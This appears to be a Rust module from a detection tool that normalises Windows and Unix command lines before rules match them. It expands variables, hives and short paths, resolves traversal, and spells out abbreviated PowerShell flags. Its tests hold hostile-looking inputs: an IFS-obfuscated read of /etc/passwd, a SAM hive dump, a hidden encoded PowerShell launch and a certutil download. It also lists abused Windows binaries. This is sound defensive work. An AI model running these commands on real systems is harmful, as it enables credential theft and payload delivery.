//! Short forms written out: environment variables, registry hives, PowerShell's arguments, paths.

use super::note::{Note, Notes};
use std::borrow::Cow;

/// Environment variables with one usual value, in the spellings of cmd and PowerShell (lower case).
pub(super) const VARIABLES: &[(&str, &str)] = &[
    ("comspec", r"c:\windows\system32\cmd.exe"),
    ("systemroot", r"c:\windows"),
    ("windir", r"c:\windows"),
    ("temp", r"c:\users\user\appdata\local\temp"),
    ("tmp", r"c:\users\user\appdata\local\temp"),
    ("appdata", r"c:\users\user\appdata\roaming"),
    ("localappdata", r"c:\users\user\appdata\local"),
    ("userprofile", r"c:\users\user"),
    ("programdata", r"c:\programdata"),
    ("allusersprofile", r"c:\programdata"),
    ("public", r"c:\users\public"),
    ("programfiles", r"c:\program files"),
    ("programfiles(x86)", r"c:\program files (x86)"),
    ("programw6432", r"c:\program files"),
    ("commonprogramfiles", r"c:\program files\common files"),
    ("systemdrive", "c:"),
    ("homedrive", "c:"),
    ("homepath", r"\users\user"),
    ("pathext", ".com;.exe;.bat;.cmd;.vbs;.vbe;.js;.jse;.wsf;.wsh;.msc"),
    ("os", "windows_nt"),
    ("psmodulepath", r"c:\users\user\documents\windowspowershell\modules"),
];

/// Registry hives in full, and as rules write them.
const HIVES: &[(&str, &str)] = &[
    ("hkey_local_machine", "hklm"),
    ("hkey_current_user", "hkcu"),
    ("hkey_users", "hku"),
    ("hkey_classes_root", "hkcr"),
    ("hklm:", "hklm"),
    ("hkcu:", "hkcu"),
    ("hku:", "hku"),
];

/// Short names of folders that every Windows has.
const SHORT_NAMES: &[(&str, &str)] = &[
    ("progra~1", "program files"),
    ("progra~2", "program files (x86)"),
    ("progra~3", "programdata"),
    ("docume~1", "documents and settings"),
    ("admini~1", "administrator"),
    ("window~1", "windowspowershell"),
    ("powers~1.exe", "powershell.exe"),
    ("startm~1", "start menu"),
];

/// A lower-case text with short forms written out.
pub(super) fn expanded<'a>(lower: &'a str, notes: &mut Notes) -> Cow<'a, str> {
    let mut text = Cow::Borrowed(lower);
    if text.contains(['%', '$', '!']) {
        replace_variables(&mut text, notes);
    }
    if text.contains("hk") {
        replace_all(&mut text, HIVES);
    }
    if text.contains('~') {
        replace_all(&mut text, SHORT_NAMES);
    }
    if text.contains('\\') || text.contains(":/") {
        plain_paths(&mut text, notes);
    }
    if text.contains("powershell") || text.contains("pwsh") {
        text = Cow::Owned(powershell_arguments(&text));
    }
    text
}

fn replace_all(text: &mut Cow<'_, str>, table: &[(&str, &str)]) {
    for (short, long) in table {
        if text.contains(short) {
            *text = Cow::Owned(text.replace(short, long));
        }
    }
}

/// `%name%`, `!name!`, `$env:name`, `${env:name}`; and a Unix shell's `$IFS`, empty parameters and home.
fn replace_variables(text: &mut Cow<'_, str>, notes: &mut Notes) {
    let bytes = text.as_bytes();
    let mut out = String::with_capacity(text.len() + 64);
    let (mut from, mut at) = (0, 0);
    while at < bytes.len() {
        let found = match bytes[at] {
            b'%' | b'!' => {
                let rest = &text[at..];
                named(&rest[1..], |name| rest.as_bytes().get(1 + name) == Some(&bytes[at]), 2)
            }
            b'$' => unix_parameter(&text[at..], notes).or_else(|| powershell_variable(&text[at..])),
            _ => None,
        };
        match found {
            Some((value, length)) => {
                out.push_str(&text[from..at]);
                out.push_str(value);
                at += length;
                from = at;
            }
            None => at += 1,
        }
    }
    if from > 0 {
        out.push_str(&text[from..]);
        *text = Cow::Owned(out);
    }
}

/// `$env:name`, `${env:name}`
fn powershell_variable(text: &str) -> Option<(&'static str, usize)> {
    let (prefix, close) = match () {
        () if text.starts_with("$env:") => (5, 0),
        () if text.starts_with("${env:") => (6, 1),
        () => return None,
    };
    named(&text[prefix..], |_| true, prefix + close)
}

/// The value of the variable whose name `rest` begins with, and the name's length with `around`.
fn named(rest: &str, ends: impl Fn(usize) -> bool, around: usize) -> Option<(&'static str, usize)> {
    let length = rest.bytes().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'(' | b')')).count();
    let name = rest.get(..length)?;
    // A closing bracket may belong to what is around the variable.
    let value = |name: &str| VARIABLES.iter().find(|(known, _)| *known == name).map(|(_, value)| *value);
    let (value, length) = match value(name) {
        Some(value) => (value, length),
        None => {
            let trimmed = name.split(['(', ')']).next().unwrap_or_default();
            (value(trimmed)?, trimmed.len())
        }
    };
    ends(length).then_some((value, length + around))
}

/// What a Unix shell makes of a parameter that is a space, or nothing.
fn unix_parameter(rest: &str, notes: &mut Notes) -> Option<(&'static str, usize)> {
    const SPACES: [&str; 4] = ["${ifs}$9", "${ifs%??}", "${ifs}", "$ifs$9"];
    if let Some(space) = SPACES.iter().find(|space| rest.starts_with(**space)) {
        notes.add(Note::Ifs);
        return Some((" ", space.len()));
    }
    if rest.strip_prefix("$ifs").is_some_and(|rest| !rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
    {
        notes.add(Note::Ifs);
        return Some((" ", 4));
    }
    let next_is_letter = |length: usize| rest.as_bytes().get(length).is_some_and(u8::is_ascii_alphabetic);
    if (rest.starts_with("$@") || rest.starts_with("$*")) && next_is_letter(2) {
        notes.add(Note::Ifs);
        return Some(("", 2));
    }
    (rest.starts_with("$home") && !next_is_letter(5)).then_some(("~", 5))
}

/// Device prefixes and this machine's own shares taken off, ups and downs resolved, forward slashes after a drive turned.
fn plain_paths(text: &mut Cow<'_, str>, notes: &mut Notes) {
    const LOCAL: &[(&str, &str)] = &[
        (r"\\?\unc\", r"\\"),
        (r"\\?\", ""),
        (r"\\.\c:", "c:"),
        (r"\??\", ""),
        (r"\\127.0.0.1\c$", "c:"),
        (r"\\localhost\c$", "c:"),
        (r"\127.0.0.1\c$", "c:"),
        (r"\localhost\c$", "c:"),
        (r"\?\c:", "c:"),
    ];
    if text.contains(r"\?") || text.contains(r"c$") || text.contains(r"\.\") {
        replace_all(text, LOCAL);
    }
    if text.contains(":/") {
        let turned = slashes_turned(text);
        if let Some(turned) = turned {
            *text = Cow::Owned(turned);
        }
    }
    if text.contains(r"\..\") || text.contains(r"\.\") {
        let (plain, traversed) = without_detours(text);
        notes.add_if(traversed, Note::Traversal);
        *text = Cow::Owned(plain);
    }
}

/// `c:/windows/x` as `c:\windows\x`; addresses such as `http://` are no drives.
fn slashes_turned(text: &str) -> Option<String> {
    let bytes = text.as_bytes();
    let mut out: Option<Vec<u8>> = None;
    let mut in_path = false;
    for at in 0..bytes.len() {
        let drive = bytes[at] == b'/'
            && at >= 2
            && bytes[at - 1] == b':'
            && bytes[at - 2].is_ascii_alphabetic()
            && bytes.get(at + 1) != Some(&b'/')
            && !(at >= 3 && bytes[at - 3].is_ascii_alphanumeric());
        in_path = drive || (in_path && !matches!(bytes[at], b' ' | b'"' | b'\'' | b',' | b';' | b'|' | b'&'));
        if in_path && bytes[at] == b'/' {
            out.get_or_insert_with(|| bytes.to_vec())[at] = b'\\';
        }
    }
    out.and_then(|bytes| String::from_utf8(bytes).ok())
}

/// Without `\.\`, and without each `folder\..\`; and whether there was one of the latter.
fn without_detours(text: &str) -> (String, bool) {
    let mut out = String::with_capacity(text.len());
    let mut traversed = false;
    let mut rest = text;
    while let Some(at) = rest.find(r"\.") {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        if let Some(after) = rest.strip_prefix(r"\..\") {
            let folder = out.rfind(['\\', ' ', '"', '=', ',']).filter(|at| out.as_bytes()[*at] == b'\\');
            match folder {
                // Never up from a drive or a share.
                Some(folder) if !out[..folder].ends_with('\\') && folder + 1 < out.len() => {
                    // From a full path; relative ones go up and down in every build.
                    let word = out[..=folder].rsplit([' ', '"', '=', ',']).next().unwrap_or_default();
                    traversed |= word.contains(':') || word.starts_with('\\');
                    out.truncate(folder);
                    rest = &rest[rest.len() - after.len() - 1..];
                }
                _ => {
                    out.push_str(r"\..");
                    rest = &rest[3..];
                }
            }
        } else if rest.starts_with(r"\.\") {
            rest = &rest[2..];
        } else {
            out.push_str(r"\.");
            rest = &rest[2..];
        }
    }
    out.push_str(rest);
    (out, traversed)
}

/// What the next word of a PowerShell command line is.
#[derive(Clone, Copy)]
enum Next {
    /// Not (or no longer) an argument of PowerShell itself.
    Anything,
    /// A parameter.
    Parameter,
    /// The value of `-WindowStyle`.
    WindowStyle,
    /// The value of another parameter.
    Value,
}

fn powershell_arguments(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 32);
    let mut next = Next::Anything;
    for word in text.split(' ') {
        if !out.is_empty() {
            out.push(' ');
        }
        let (written, following) = match (next, word.strip_prefix(['-', '/'])) {
            (Next::WindowStyle, _) => (if is_hidden(word) { "hidden" } else { word }, Next::Parameter),
            (Next::Value, _) => (word, Next::Parameter),
            (Next::Parameter, Some(parameter)) => match parameter_name(parameter) {
                Some((name, following)) => (name, following),
                None => (word, Next::Parameter),
            },
            (Next::Parameter | Next::Anything, _) => {
                (word, if is_powershell(word) { Next::Parameter } else { Next::Anything })
            }
        };
        out.push_str(written);
        next = following;
    }
    out
}

fn is_powershell(word: &str) -> bool {
    let name = word.rsplit(['\\', '/']).next().unwrap_or(word);
    matches!(name.strip_suffix(".exe").unwrap_or(name), "powershell" | "pwsh")
}

fn is_hidden(value: &str) -> bool {
    value == "1" || (!value.is_empty() && "hidden".starts_with(value))
}

/// PowerShell accepts any unambiguous beginning of a parameter's name, and a few fixed aliases.
fn parameter_name(written: &str) -> Option<(&'static str, Next)> {
    let begins = |name: &str, least: usize| written.len() >= least && name.starts_with(written);
    Some(match written {
        "ec" => ("-encodedcommand", Next::Anything),
        "ep" | "exec" => ("-executionpolicy", Next::Value),
        "wd" => ("-workingdirectory", Next::Value),
        "cwa" => ("-commandwithargs", Next::Anything),
        "ea" => ("-encodedarguments", Next::Value),
        "if" => ("-inputformat", Next::Value),
        "of" => ("-outputformat", Next::Value),
        _ if begins("encodedcommand", 1) => ("-encodedcommand", Next::Anything),
        _ if begins("executionpolicy", 2) => ("-executionpolicy", Next::Value),
        _ if begins("windowstyle", 1) => ("-windowstyle", Next::WindowStyle),
        _ if begins("workingdirectory", 2) => ("-workingdirectory", Next::Value),
        _ if begins("noprofile", 3) => ("-noprofile", Next::Parameter),
        _ if begins("noninteractive", 4) => ("-noninteractive", Next::Parameter),
        _ if begins("noexit", 3) => ("-noexit", Next::Parameter),
        _ if begins("nologo", 3) => ("-nologo", Next::Parameter),
        _ if begins("inputformat", 2) => ("-inputformat", Next::Value),
        _ if begins("outputformat", 1) => ("-outputformat", Next::Value),
        _ if begins("version", 1) => ("-version", Next::Value),
        _ if begins("command", 1) => ("-command", Next::Anything),
        _ if begins("file", 1) => ("-file", Next::Anything),
        _ => return None,
    })
}

/// Programs of Windows that take an option with `-` as well as with `/`.
const EITHER_PREFIX: &[&str] = &[
    "certutil",
    "schtasks",
    "taskkill",
    "tasklist",
    "wevtutil",
    "bitsadmin",
    "msiexec",
    "regsvr32",
    "cmstp",
    "forfiles",
    "whoami",
    "nltest",
    "shutdown",
    "wbadmin",
    "bcdedit",
    "esentutl",
    "net",
    "net1",
    "sc",
    "reg",
    "icacls",
    "attrib",
    "rundll32",
    "ipconfig",
    "netstat",
    "nbtstat",
    "fltmc",
    "vssadmin",
    "diskshadow",
    "installutil",
    "msbuild",
    "regasm",
    "regsvcs",
    "ieexec",
    "odbcconf",
    "makecab",
    "expand",
    "extrac32",
    "findstr",
    "systeminfo",
    "gpresult",
    "cipher",
    "mshta",
    "auditpol",
];

/// `lower` with the other prefix in front of each option, if one of its programs takes either.
///
/// Attackers write whichever a rule does not.
pub(super) fn other_prefix<'n>(lower: &str, names: impl IntoIterator<Item = &'n str>) -> Option<String> {
    let takes_either = |name: &str| EITHER_PREFIX.contains(&name.strip_suffix(".exe").unwrap_or(name));
    if !names.into_iter().any(takes_either) {
        return None;
    }
    let mut bytes = lower.as_bytes().to_vec();
    let mut changed = false;
    for at in 1..bytes.len() {
        let option = bytes[at - 1] == b' ' && bytes.get(at + 1).is_some_and(u8::is_ascii_alphabetic);
        if option && matches!(bytes[at], b'-' | b'/') {
            bytes[at] = if bytes[at] == b'-' { b'/' } else { b'-' };
            changed = true;
        }
    }
    changed.then(|| String::from_utf8(bytes).ok()).flatten()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written_out(text: &str) -> String {
        expanded(text, &mut Notes::default()).into_owned()
    }

    #[test]
    fn variables_hives_and_paths_are_written_out() {
        for (written, meant) in [
            ("%comspec% /c dir", r"c:\windows\system32\cmd.exe /c dir"),
            ("!comspec! /c dir", r"c:\windows\system32\cmd.exe /c dir"),
            (r"$env:temp\a.exe ${env:windir}\b", r"c:\users\user\appdata\local\temp\a.exe c:\windows\b"),
            (r"%programfiles(x86)%\a", r"c:\program files (x86)\a"),
            (r"(%temp%)", r"(c:\users\user\appdata\local\temp)"),
            ("100% of %unknown% and $x", "100% of %unknown% and $x"),
            ("cat${ifs}/etc/passwd", "cat /etc/passwd"),
            ("cat$ifs$9/etc/passwd c$@at", "cat /etc/passwd cat"),
            (r"reg save hkey_local_machine\sam", r"reg save hklm\sam"),
            (r"get-item hklm:\software", r"get-item hklm\software"),
            (r"c:\progra~1\x.exe", r"c:\program files\x.exe"),
            (r"\\?\c:\windows\x.exe", r"c:\windows\x.exe"),
            (r"\\127.0.0.1\c$\windows\x.exe", r"c:\windows\x.exe"),
            (r"c:\windows\system32\..\temp\x.exe", r"c:\windows\temp\x.exe"),
            (r"c:\a\b\..\..\windows\.\x.exe", r"c:\windows\x.exe"),
            (r"..\x.exe c:\..\y \\srv\..\z", r"..\x.exe c:\..\y \\srv\..\z"),
            ("c:/windows/system32/cmd.exe /c http://a/b", r"c:\windows\system32\cmd.exe /c http://a/b"),
        ] {
            assert_eq!(written_out(written), meant);
        }
    }

    #[test]
    fn powershells_arguments_are_written_out() {
        for (written, meant) in [
            ("powershell -w h -nop -enc aaaa", "powershell -windowstyle hidden -noprofile -encodedcommand aaaa"),
            ("pwsh.exe /e aaaa", "pwsh.exe -encodedcommand aaaa"),
            ("powershell -ep bypass -f run.ps1 -e x", "powershell -executionpolicy bypass -file run.ps1 -e x"),
            ("powershell -sta -of xml -c ls -f", "powershell -sta -outputformat xml -command ls -f"),
            ("grep -e error /var/log/syslog", "grep -e error /var/log/syslog"),
        ] {
            assert_eq!(written_out(written), meant);
        }
    }

    #[test]
    fn options_turn_up_with_either_prefix_where_the_program_takes_either() {
        let flipped = other_prefix("certutil.exe /urlcache -f http://x/a /b", ["certutil.exe"]);
        assert_eq!(flipped.as_deref(), Some("certutil.exe -urlcache /f http://x/a -b"));
        assert_eq!(other_prefix("ls -la", ["ls"]), None);
        assert_eq!(other_prefix("net user", ["net"]), None);
    }

    #[test]
    fn detours_are_noticed() {
        let mut notes = Notes::default();
        let _ = expanded(r"c:\windows\system32\..\temp", &mut notes);
        assert!(notes.has(Note::Traversal));
        let mut notes = Notes::default();
        let _ = expanded(r"cd ..\build & type c:\x\.\y", &mut notes);
        assert!(notes.is_empty());
    }
}
